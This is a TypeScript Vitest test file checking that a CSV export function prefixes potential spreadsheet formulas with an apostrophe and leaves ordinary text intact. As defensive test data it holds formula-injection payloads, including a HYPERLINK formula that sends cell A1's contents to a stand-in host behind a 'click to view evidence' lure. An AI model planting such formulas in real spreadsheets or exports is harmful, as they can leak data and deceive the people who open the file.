import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, exportCsv } from '../../functions/core/stats';

describe('the CSV export', () => {
  it('never lets a typed cell run as a spreadsheet formula', () => {
    const dangerous = ['=HYPERLINK("http://x/?"&A1,"点击查看证据")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const row = (cell: string) => EXPORT_COLUMNS.map((_, i) => (i === 0 ? 'ABCD-EFGH-JKMN' : cell));
    const csv = exportCsv(dangerous.map(row));
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = parse(csv.slice(1)) as string[][];
    expect(header).toEqual(EXPORT_COLUMNS);
    for (const [i, cells] of rows.entries()) {
      for (const cell of cells.slice(1)) {
        expect(cell.startsWith("'"), `cell ${JSON.stringify(cell)}`).toBe(true);
        expect(cell.slice(1)).toBe(dangerous[i]);
      }
    }
  });

  it('leaves ordinary text as it was written', () => {
    const csv = exportCsv([EXPORT_COLUMNS.map(() => '朋友圈广告“包过”，交 3800 元')]);
    const [, cells] = parse(csv.slice(1)) as string[][];
    expect(cells!.every((c) => c === '朋友圈广告“包过”，交 3800 元')).toBe(true);
  });
});
